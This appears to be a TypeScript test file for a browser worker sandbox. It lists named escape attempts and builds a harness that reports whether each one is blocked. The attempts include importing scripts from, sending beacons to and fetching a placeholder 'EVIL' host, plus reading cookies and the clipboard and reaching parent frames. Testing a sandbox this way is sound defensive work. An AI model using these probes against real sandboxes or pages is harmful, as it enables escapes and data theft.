// Attempts of a program to leave its sandbox. A line is a name and the body of an async function: it returns or ends
// when the attempt succeeds, and throws or never ends when it is blocked. `EVIL`, `SITE` and `NODE` are addresses, `s`
// is the global object, and `event(target, good, bad)` waits for the first of two events.
// prettier-ignore
export const escapes: readonly (readonly [name: string, body: string])[] = [
  // The page, its window and its frames
  ['parent', `return s.parent.document.title;`],
  ['top', `return s.top.location.href;`],
  ['frames', `return s.frames[0].name;`],
  ['window', `return s.window.name;`],
  ['document', `return s.document.cookie;`],
  ['opener', `return s.opener.location.href;`],
  ['location assign', `s.location.assign(EVIL);`],
  ['location href', `s.location.href = EVIL; if (s.location.href.startsWith('blob:')) throw Error('unchanged');`],
  ['open', `s.open(EVIL);`],
  ['alert', `s.alert(1);`],
  ['prompt', `s.prompt('');`],
  ['postMessage', `s.postMessage('hit');`],
  ['postMessage of the prototype', `Object.getPrototypeOf(s).postMessage.call(s, 'hit');`],
  ['postMessage of the event target', `EventTarget.prototype.postMessage.call(s, 'hit');`],
  ['close of the relay', `s.parent.close();`],
  // Storage
  ['localStorage', `s.localStorage.setItem('hit', '1');`],
  ['sessionStorage', `s.sessionStorage.setItem('hit', '1');`],
  ['IndexedDB open', `await event(indexedDB.open('hit'), 'success', 'error');`],
  ['IndexedDB list', `return await indexedDB.databases();`],
  ['CacheStorage open', `await caches.open('hit');`],
  ['CacheStorage match', `await caches.match(SITE + '/intro');`],
  ['storage estimate', `return (await navigator.storage.estimate()).quota;`],
  ['origin-private files', `await navigator.storage.getDirectory();`],
  ['locks', `await navigator.locks.request('hit', () => 1);`],
  ['cookieStore', `await s.cookieStore.set('hit', '1');`],
  ['webkitRequestFileSystem', `await new Promise((y, n) => s.webkitRequestFileSystem(0, 1, (f) => f.root.getFile('a', {create: true}, y, n), n));`],
  ['webkitRequestFileSystemSync', `s.webkitRequestFileSystemSync(0, 1).root.getFile('a', {create: true});`],
  ['file picker', `await s.showOpenFilePicker();`],
  // Requests around the page
  ['fetch of the prototype', `await Object.getPrototypeOf(Object.getPrototypeOf(s)).fetch.call(s, EVIL);`],
  ['fetch of the scope', `await WorkerGlobalScope.prototype.fetch.call(s, EVIL);`],
  ['native fetch of the site', `delete s.fetch; await s.fetch(SITE + '/intro');`],
  ['native fetch of a node', `delete s.fetch; await s.fetch(NODE + '/v1');`],
  ['native fetch without CORS', `delete s.fetch; await s.fetch(EVIL, {mode: 'no-cors', keepalive: true});`],
  ['native fetch of a blob', `delete s.fetch; await s.fetch(URL.createObjectURL(new Blob(['a'])));`],
  ['native fetch of data', `delete s.fetch; await s.fetch('data:,a');`],
  ['fetch of a fresh realm', `await new Function('return fetch')().call(s, EVIL);`],
  ['fetch through the page', `await fetch(EVIL);`],
  ['relative fetch through the page', `await fetch('/intro');`],
  ['fetch of data through the page', `await fetch('data:,a');`],
  ['fetch of the site through the page', `await fetch(SITE + '/intro');`],
  ['XMLHttpRequest', `const r = new XMLHttpRequest(); r.open('GET', EVIL); r.send(); await event(r, 'load', 'error');`],
  ['synchronous XMLHttpRequest', `const r = new XMLHttpRequest(); r.open('GET', EVIL, false); r.send();`],
  ['WebSocket', `await event(new WebSocket(EVIL.replace('http', 'ws')), 'open', 'error');`],
  ['WebSocketStream', `await new s.WebSocketStream(EVIL.replace('http', 'ws')).opened;`],
  ['EventSource', `await event(new EventSource(EVIL), 'open', 'error');`],
  ['WebTransport', `await new s.WebTransport(EVIL.replace('http', 'https')).ready;`],
  ['sendBeacon', `if (!s.navigator.sendBeacon(EVIL, 'a')) throw Error('refused');`],
  ['RTCPeerConnection', `const c = new s.RTCPeerConnection({iceServers: [{urls: EVIL.replace('http://', 'stun:')}]}); await c.setLocalDescription(await c.createOffer());`],
  ['FontFace', `await new FontFace('a', 'url(' + EVIL + ')').load();`],
  ['SVG bitmap with an image', `await createImageBitmap(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + EVIL + '"/></svg>'], {type: 'image/svg+xml'}));`],
  ['ImageDecoder', `await new s.ImageDecoder({type: 'image/png', data: await fetch(EVIL)}).decode();`],
  ['preconnect by a header', `new Response('', {headers: {link: '<' + EVIL + '>; rel=preconnect'}}); throw Error('sends nothing');`],
  // Code
  ['importScripts of another site', `s.importScripts(EVIL);`],
  ['importScripts of data', `s.importScripts('data:text/javascript,1');`],
  ['importScripts of the site', `s.importScripts(SITE + '/sw.js');`],
  ['import of another site', `await s.Reflect.construct(Function, ['return import("' + EVIL + '")'])();`],
  ['import in a module worker', `await moduleWorker('await import("' + EVIL + '")');`],
  ['static import in a module worker', `await moduleWorker('import "' + EVIL + '"');`],
  ['import of the site in a module worker', `await moduleWorker('import "' + SITE + '/sw.js"');`],
  ['worker of another site', `await event(new Worker(EVIL), 'message', 'error');`],
  ['worker of the site', `await event(new Worker(SITE + '/sw.js'), 'message', 'error');`],
  ['worker of data', `await event(new Worker('data:text/javascript,postMessage(1)'), 'message', 'error');`],
  ['fetch in a nested worker', `await nested('await fetch("' + EVIL + '")');`],
  ['fetch of the site in a nested worker', `await nested('await fetch("' + SITE + '/intro")');`],
  ['import in a nested worker', `await nested('await import("' + EVIL + '")');`],
  ['importScripts in a nested worker', `await nested('importScripts("' + EVIL + '")');`],
  ['eval in a nested worker', `await nested('eval("1")');`],
  ['origin of a nested worker', `await nested('if (self.origin === "null") throw Error("opaque")');`],
  ['storage of a nested worker', `await nested('await caches.open("hit")');`],
  ['twice nested', `await nested('await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(\\\\"' + EVIL + '\\\\").then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? y() : n(Error("blocked")); w.onerror = n; })');`],
  ['SharedWorker', `await event(new s.SharedWorker(SITE + '/sw.js').port, 'message', 'error');`],
  ['service worker', `await s.navigator.serviceWorker.register(SITE + '/sw.js');`],
  ['eval', `s.eval('1');`],
  ['Function', `Function('return 1')();`],
  ['async Function', `(async () => {}).constructor('return 1')();`],
  ['generator Function', `(function* () {}).constructor('return 1')();`],
  ['timer with text in a nested worker', `await nested('setTimeout("self.hit = 1", 1); await new Promise((y) => setTimeout(y, 300)); if (!self.hit) throw Error("blocked")');`],
  ['WebAssembly', `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`],
  ['a worklet', `await s.CSS.paintWorklet.addModule(EVIL);`],
  // Shared memory, channels and devices
  ['SharedArrayBuffer', `return new s.SharedArrayBuffer(8);`],
  ['shared memory of WebAssembly in another worker', `const {buffer} = new WebAssembly.Memory({initial: 1, maximum: 1, shared: true} as any); new Worker(URL.createObjectURL(new Blob(['']))).postMessage(buffer);`],
  ['isolation', `if (!s.crossOriginIsolated) throw Error('not isolated');`],
  ['secure context', `if (!s.isSecureContext) throw Error('not secure');`],
  ['origin', `if (s.origin === 'null') throw Error('opaque');`],
  ['BroadcastChannel', `const c = new BroadcastChannel('hit'); c.postMessage('hit'); await event(c, 'message', 'messageerror');`],
  ['Notification', `if (Notification.permission !== 'granted') throw Error('refused'); new Notification('hit');`],
  ['permissions', `if ((await navigator.permissions.query({name: 'geolocation'})).state !== 'granted') throw Error('refused');`],
  ['USB', `return await s.navigator.usb.requestDevice({filters: []});`],
  ['HID', `return await s.navigator.hid.requestDevice({filters: []});`],
  ['serial', `return await s.navigator.serial.requestPort();`],
  ['GPU', `if (!(await s.navigator.gpu.requestAdapter())) throw Error('none');`],
  ['clipboard', `return await s.navigator.clipboard.readText();`],
];

/** Milliseconds after which an attempt without a response counts as blocked. */
const PATIENCE = 2_000;

/** A program that makes an attempt, and prints `blocked` or `GOT THROUGH`. `evil` and `site` are addresses. */
export const program = (body: string, evil: string, site: string) => `
const EVIL = '${evil}', SITE = '${site}', NODE = 'http://127.0.0.1:8080', s: any = self;
const event = (target: any, good: string, bad: string) =>
  new Promise((done, fail) => {
    target.addEventListener(good, done);
    target.addEventListener(bad, () => fail(Error(bad)));
  });
const worker = (source: string, type: any) =>
  new Promise<void>((done, fail) => {
    const made = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})), {type});
    made.onmessage = ({data}) => (data === 'hit' ? done() : fail(Error(data)));
    made.onerror = (error) => { error.preventDefault(); fail(Error('refused')); };
  });
const nested = (body: string) =>
  worker('(async () => {' + body + '})().then(() => postMessage("hit"), (e) => postMessage(String(e)))', 'classic');
const moduleWorker = (body: string) => worker(body + '; postMessage("hit")', 'module');
const attempt = async () => {${body}};
const patience = new Promise((_, fail) => setTimeout(() => fail(Error('no answer')), ${PATIENCE}));
patience.catch(() => undefined);
try {
  console.log('GOT THROUGH', await Promise.race([attempt(), patience]));
} catch (error) {
  console.log('blocked', error);
}`;
